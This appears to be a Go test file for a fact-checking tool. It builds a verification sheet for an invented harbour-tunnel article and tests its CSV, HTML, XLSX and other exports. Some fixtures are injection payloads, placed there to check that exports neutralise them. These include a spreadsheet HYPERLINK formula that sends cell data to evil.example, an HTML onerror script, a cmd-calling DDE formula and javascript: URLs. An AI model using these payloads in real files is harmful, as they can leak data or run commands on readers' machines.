package sheet

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"stet/extract/claim"
	"stet/store/ledger"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// The fixture is an invented article; every name and figure in it is made up.
const harbour = "Harbour tunnel will open a year late\n\n" +
	"The tunnel under Varde harbour will open in 2031, a year later than planned, the builder Nordkaj said on Tuesday. " +
	"It now costs more than $1.4 billion, up 12.5 percent.\n\n" +
	"“We found softer clay than the borings showed,” said Ilse Brandt, Nordkaj’s chief engineer. " +
	"“Nobody was careless.”\n\n" +
	"What it means\n\n" +
	"About 40,000 cars a day will go on using the old bridge, which is 61 years old.\n\n" +
	"The toll stays at -5 crowns for electric buses\n\n" +
	"Nordkaj bought the dredging firm Skarv in 2019 for $72 million."

// desk collects the events of a story.
type desk struct {
	t      testing.TB
	a      *claim.Article
	claims []claim.Claim
	heads  map[string]ledger.Head
	events []ledger.Event
	clock  time.Time
}

func newDesk(t testing.TB) *desk {
	a := claim.Plain(harbour)
	a.Title, a.Byline, a.Site = "Harbour tunnel will open a year late", []string{"Mads Rehn", "Liv Dahl"}, "varde.example"
	a.URL, a.Published = "https://varde.example/tunnel", "2026-03-10"
	a.Blocks[0].Kind, a.Blocks[3].Kind, a.Blocks[5].Kind = claim.Heading, claim.Heading, claim.ListItem
	d := &desk{t: t, a: a, heads: map[string]ledger.Head{}, clock: time.Date(2026, 3, 11, 9, 0, 0, 0, time.UTC)}
	d.add("2031", claim.Claim{Number: &claim.Number{Kind: claim.DateKind, Bound: claim.Exact, Date: &claim.Date{Start: "2031-01-01", End: "2032-01-01", Grain: "year"}}})
	d.add("Nordkaj", claim.Claim{Name: &claim.Name{Type: claim.Org, Canonical: "Nordkaj", Role: "builder"}})
	d.add("$1.4 billion", claim.Claim{Number: &claim.Number{Kind: claim.Money, Value: "1400000000", Unit: "USD", Bound: claim.MoreThan, Of: "the tunnel"}})
	d.add("12.5 percent", claim.Claim{Number: &claim.Number{Kind: claim.Percent, Value: "12.5", Unit: "%", Bound: claim.Exact, Of: "rise of the cost"}})
	d.add("“We found softer clay than the borings showed,”", claim.Claim{Quote: &claim.Quote{Kind: claim.QuoteDirect, Speaker: "Ilse Brandt", Cue: "said"}})
	d.add("borings", claim.Claim{Name: &claim.Name{Type: claim.Product, Canonical: "borings"}})
	d.add("Ilse Brandt", claim.Claim{Name: &claim.Name{Type: claim.Person, Canonical: "Ilse Brandt", Role: "chief engineer"}})
	d.add("“Nobody was careless.”", claim.Claim{Quote: &claim.Quote{Kind: claim.QuoteDirect}})
	d.add("40,000", claim.Claim{Number: &claim.Number{Kind: claim.Count, Value: "40000", Bound: claim.Approx, Of: "cars a day"}})
	d.add("61 years", claim.Claim{Number: &claim.Number{Kind: claim.Age, Value: "61", Bound: claim.Exact, Of: "the old bridge", Certainty: claim.Inferred}})
	d.add("-5 crowns", claim.Claim{Number: &claim.Number{Kind: claim.Money, Value: "-5", Unit: "DKK", Bound: claim.Exact, Of: "toll"}})
	d.add("Nordkaj bought the dredging firm Skarv in 2019 for $72 million", claim.Claim{Deal: &claim.Deal{Kind: claim.Acquisition,
		Company: "Skarv", Acquirer: "Nordkaj", Amount: "72000000", Currency: "USD", Bound: claim.Exact, Status: claim.Completed, Date: "2019"}})
	claim.Sort(d.claims)
	return d
}

func (d *desk) add(words string, c claim.Claim) {
	i := strings.Index(d.a.Text, words)
	if i < 0 {
		d.t.Fatalf("%q is not in the article", words)
	}
	switch {
	case c.Quote != nil:
		c.Kind = claim.KindQuote
	case c.Number != nil:
		c.Kind = claim.KindNumber
	case c.Name != nil:
		c.Kind = claim.KindName
	default:
		c.Kind = claim.KindDeal
	}
	c.Span, c.Text = claim.Span{Start: i, End: i + len(words)}, words
	c.ID = claim.ClaimID(d.a.Hash(), c.Kind, c.Span)
	d.claims = append(d.claims, c)
}

func (d *desk) target(words string) ledger.Target {
	for _, c := range d.claims {
		if words != "" && strings.Contains(c.Text, words) {
			return ledger.On(d.a, c)
		}
	}
	if words != "" {
		d.t.Fatalf("no claim %q", words)
	}
	return ledger.OnArticle(d.a)
}

func (d *desk) say(author, words string, acts ...ledger.Act) []string {
	d.t.Helper()
	var hashes []string
	for _, act := range acts {
		if ev, ok := act.(ledger.EvidenceAdded); ok {
			ev.Evidence.ClaimID = d.target(words).Claim
			act = ev
		}
		h := d.heads[author]
		h.Author, h.Case = strings.ToLower(author), "harbour"
		d.clock = d.clock.Add(7 * time.Minute)
		salt := sha256.Sum256([]byte(d.clock.String()))
		e, err := ledger.Append(h, ledger.Statement{By: author, Target: d.target(words), Act: act}, d.clock,
			strings.NewReader(hex.EncodeToString(salt[:])))
		if err != nil {
			d.t.Fatal(err)
		}
		d.heads[author] = e.Head()
		d.events = append(d.events, e)
		hashes = append(hashes, e.Hash)
	}
	return hashes
}

// harbourSheet is the sheet of the story that the tests look at.
func harbourSheet(t testing.TB) *Sheet {
	d := newDesk(t)
	found := func(f ledger.Finding, note string) ledger.Act { return ledger.FindingSet{Finding: f, Note: note} }
	proof := func(id, source, locator string, st ledger.Stance, l ledger.Level) ledger.Act {
		return ledger.EvidenceAdded{Evidence: ledger.Evidence{ID: id, SourceID: source, Locator: locator, Stance: st, Level: l}}
	}
	d.say("Kim", "", ledger.SourceAdded{Source: ledger.Source{ID: "report", Kind: "official_document", Title: "Budget note 14, Varde port authority",
		Publisher: "Varde port authority", Published: "2026-02-27", URL: "https://port.example/notes/14?lang=da&v=2", SeenAt: d.clock, SeenBy: "Kim"}},
		ledger.SourceAdded{Source: ledger.Source{ID: "call", Kind: "interview", Title: "Call with Ilse Brandt", How: "phone", Attribution: "on_record", SeenAt: d.clock}},
		ledger.SourceAdded{Source: ledger.Source{ID: "evil", Kind: "web_page", Title: `=HYPERLINK("http://evil.example/?"&A1,"prices")`, File: `"><img src=x onerror=alert(1)>`}},
		ledger.NoteAdded{ID: "n0", Text: "Asked Nordkaj for the borings on 10 March."})
	d.say("Kim", "2031", found(ledger.Verified, ""), proof("e1", "report", "p. 3", ledger.Supports, ledger.Primary))
	d.say("Kim", "$1.4 billion", found(ledger.NeedsCorrection, "The note says 1.38 billion."), proof("e2", "report", "p. 5, table 2", ledger.Contradicts, ledger.Primary),
		ledger.DecisionSet{Decision: ledger.Fix, Wording: "about $1.4 billion"})
	first := d.say("Kim", "12.5 percent", found(ledger.Verified, ""))
	second := d.say("Bo", "12.5 percent", found(ledger.NeedsContext, "Against the 2022 budget, not last year’s."))
	d.say("Bo", "12.5 percent", ledger.ConflictSettled{Finding: ledger.NeedsContext, Settles: append(first, second...), Reason: "Kim agrees"})
	d.say("Kim", "softer clay", found(ledger.VerifiedAsAttributed, "Read back to her."), proof("e3", "call", "04:12", ledger.Supports, ledger.Primary))
	d.say("Bo", "Ilse Brandt", found(ledger.Verified, ""))
	d.say("Kim", "Ilse Brandt", found(ledger.NeedsCorrection, "Spelled Ilse Brand on the port’s page."))
	d.say("Kim", "Nobody", found(ledger.Unverifiable, "-2 calls, no answer"), ledger.DecisionSet{Decision: ledger.Cut})
	d.say("Kim", "40,000", found(ledger.OnAuthor, "Author counted."), proof("e4", "evil", "=1+1", ledger.Context, ""),
		ledger.NoteAdded{ID: "n1", Text: "@SUM(1+1)*cmd|' /C calc'!A0"})
	d.say("Bo", "bought the dredging", found(ledger.NoCheckNeeded, "Filed before."), ledger.WorkStateSet{State: ledger.Closed})
	d.say("Kim", "", ledger.WarningJudged{ID: "w2", Judgement: ledger.Dismissed, Reason: "measured from the 2022 budget"})
	d.say("Bo", "", ledger.WarningJudged{ID: "w3", Judgement: ledger.Confirmed})
	gone := claim.Plain("The bridge carried 12,000 lorries.")
	old := claim.Claim{ID: "gone", Kind: claim.KindNumber, Span: claim.Span{Start: 19, End: 25}, Text: "12,000", Sentence: claim.Span{Start: 0, End: 34}}
	e, err := ledger.Append(d.heads["Bo"], ledger.Statement{By: "Bo", Target: ledger.On(gone, old), Act: found(ledger.Verified, "")}, d.clock.Add(time.Minute), strings.NewReader(strings.Repeat("x", 16)))
	if err != nil {
		t.Fatal(err)
	}
	r := &claim.Result{Article: d.a, Claims: d.claims, Warnings: []claim.Warning{
		{ID: "w2", Kind: "growth", Verdict: claim.Flag, Message: "from $1.2bn to $1.4bn is up 17%, the text says 12.5%.", Spans: []claim.Span{d.claims[3].Span}},
		{ID: "w3", Kind: "tense", Verdict: claim.Flag, Message: "2031 is still to come, the verb is in the past.", Spans: []claim.Span{d.claims[0].Span}},
		{ID: "w1", Kind: "age", Verdict: claim.Flag, Message: "A bridge opened in 1966 is 60 years old in 2026, not 61.", Spans: []claim.Span{d.claims[9].Span}},
		{Kind: "sum", Verdict: claim.OK, Message: "not shown"}}}
	return Build(r, ledger.ReplayOn(append(d.events, e), d.a, d.claims), Meta{Program: "Stet 0.1.0",
		Made: d.clock.Add(time.Hour), FetchedAt: time.Date(2026, 3, 11, 8, 58, 30, 0, time.UTC)})
}

func TestGolden(t *testing.T) {
	s := harbourSheet(t)
	for name, write := range map[string]func(io.Writer) error{"harbour.csv": s.WriteCSV, "harbour.html": s.WriteHTML, "harbour.md": s.WriteMarkdown, "harbour.json": s.WriteJSON} {
		var b strings.Builder
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join("testdata", name)
		if *update {
			if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if b.String() != string(want) {
			t.Errorf("%s differs from the golden file; go test ./store/sheet -update and look at the diff", name)
		}
	}
}

// TestWithhold: nothing of a source that must stay with the desk is in a sheet
// that leaves such sources out; a sheet that names them says so.
func TestWithhold(t *testing.T) {
	for _, src := range []ledger.Source{{Sensitivity: "confidential"}, {Sensitivity: "sealed"}, {Attribution: "off_record"}, {Attribution: "deep_background"}} {
		d := newDesk(t)
		src.ID, src.Kind, src.Title, src.Author, src.URL, src.Note, src.SeenBy = "s", "interview", "QQ title", "QQ author", "https://qq.example/", "QQ note", "QQ seen"
		d.say("Kim", "", ledger.SourceAdded{Source: src})
		d.say("Kim", "2031", ledger.FindingSet{Finding: ledger.Verified}, ledger.EvidenceAdded{Evidence: ledger.Evidence{ID: "e", SourceID: "s",
			Stance: ledger.Supports, Locator: "QQ locator", Note: "QQ remark", Passage: claim.Anchor{Exact: "QQ passage"}}})
		r := &claim.Result{Article: d.a, Claims: d.claims}
		state := ledger.ReplayOn(d.events, d.a, d.claims)
		for _, hide := range []bool{true, false} {
			s := Build(r, state, Meta{Withhold: hide})
			for _, name := range []string{"a.csv", "a.html", "a.xlsx"} {
				path := filepath.Join(t.TempDir(), name)
				if err := s.Write(path); err != nil {
					t.Fatal(err)
				}
				text := readAll(t, path)
				if strings.Contains(text, "QQ") == hide || strings.Contains(text, "qq.example") == hide {
					t.Errorf("%s with sensitivity %q, attribution %q: withheld %v, named %v", name, src.Sensitivity, src.Attribution, hide, !hide)
				}
				if !strings.Contains(text, "must stay with the desk") {
					t.Errorf("%s does not say what it holds", name)
				}
			}
		}
	}
}

// readAll returns a file as text, of a ZIP all its parts.
func readAll(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Ext(path) != ".xlsx" {
		return string(b)
	}
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	text := ""
	for _, f := range z.File {
		text += readPart(t, f)
	}
	return text
}

func TestFileName(t *testing.T) {
	for in, want := range map[string]string{"": "", "-": "-", "/home/kim/secret project/draft.txt": "draft.txt", `C:\Users\Kim\draft.docx`: "draft.docx",
		"https://a.example/b/c": "https://a.example/b/c", "pasted text": "pasted text"} {
		if got := fileName(in); got != want {
			t.Errorf("fileName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWrite(t *testing.T) {
	s, dir := harbourSheet(t), t.TempDir()
	names := []string{"a.HTML"}
	for _, f := range Formats {
		if f.Ending != ".html" {
			names = append(names, "a"+f.Ending)
		}
	}
	for _, name := range names {
		if err := s.Write(filepath.Join(dir, name)); err != nil {
			t.Error(err)
		}
	}
	if err := s.Write(filepath.Join(dir, "a.rtf")); !errors.Is(err, ErrFormat) {
		t.Errorf("a.rtf: %v, want ErrFormat", err)
	}
	broken := fmt.Errorf("disk full")
	path := filepath.Join(dir, "a.csv")
	before, _ := os.ReadFile(path)
	err := replace(path, func(w io.Writer) error {
		io.WriteString(w, "half")
		return broken
	})
	after, _ := os.ReadFile(path)
	if !errors.Is(err, broken) || string(before) != string(after) {
		t.Errorf("failed export: %v, file changed: %v", err, string(before) != string(after))
	}
	if list, _ := os.ReadDir(dir); len(list) != len(names) {
		t.Errorf("%d files left, want %d", len(list), len(names))
	}
}

// TestNumberPlace: the number of a claim parts no word and no punctuation.
func TestNumberPlace(t *testing.T) {
	for _, tt := range []struct{ claim, after, want string }{
		{"guesswork", ",” she said", ",”"}, {"$5m", ") failed", ")"}, {"Nordkaj", "’s boss", "’s"}, {"Nordkaj", "—a firm", ""},
		{"72", "-year lease", "-year"}, {"Lund", " said", ""}, {"Lund", "", ""}, {"Lund", ".", "."}, {"a", "“b”", "“b”"}, {"a", "«b»", ""},
		{"港", strings.Repeat("湾", 40), ""}, {"end", ".\nNext", "."},
	} {
		at := len(tt.claim)
		if got := numberPlace(tt.claim+tt.after, at); got != at+len(tt.want) {
			t.Errorf("after %q in %q: %d, want %d", tt.claim, tt.claim+tt.after, got-at, len(tt.want))
		}
	}
}

// TestEmptyColumns: the page has no column that is empty in every row; CSV and
// XLSX keep them all.
func TestEmptyColumns(t *testing.T) {
	d := newDesk(t)
	bare := Build(&claim.Result{Article: d.a, Claims: d.claims}, ledger.ReplayOn(nil, d.a, d.claims), Meta{})
	for _, tt := range []struct {
		s    *Sheet
		want int
	}{{bare, 5}, {harbourSheet(t), 9}} {
		var page, table bytes.Buffer
		if err := errors.Join(tt.s.WriteHTML(&page), tt.s.WriteCSV(&table)); err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(page.String(), "<th "); n != tt.want {
			t.Errorf("%d columns, want %d", n, tt.want)
		}
		if n := strings.Count(page.String(), "<td"); n != tt.want*len(tt.s.Rows) {
			t.Errorf("%d cells for %d rows of %d", n, len(tt.s.Rows), tt.want)
		}
		if !strings.Contains(table.String(), "proposed wording,sources") {
			t.Error("CSV lacks columns")
		}
	}
}

func TestWebOnly(t *testing.T) {
	for in, ok := range map[string]bool{
		"https://example.org/a?b=%22c%22": true, "http://127.0.0.1:8080/": true, "http://[::1]:80/": true, "https://größe.example/": true,
		"": false, "example.org": false, "javascript:alert(1)": false, "ftp://example.org/": false, "https://": false,
		"http://a\"b\"": false, "http://a'b/": false, "http://a<b>/": false, "data:text/html,x": false,
	} {
		if got := webOnly(in); (got == in && in != "") != ok || !ok && got != "" {
			t.Errorf("webOnly(%q) = %q", in, got)
		}
	}
}
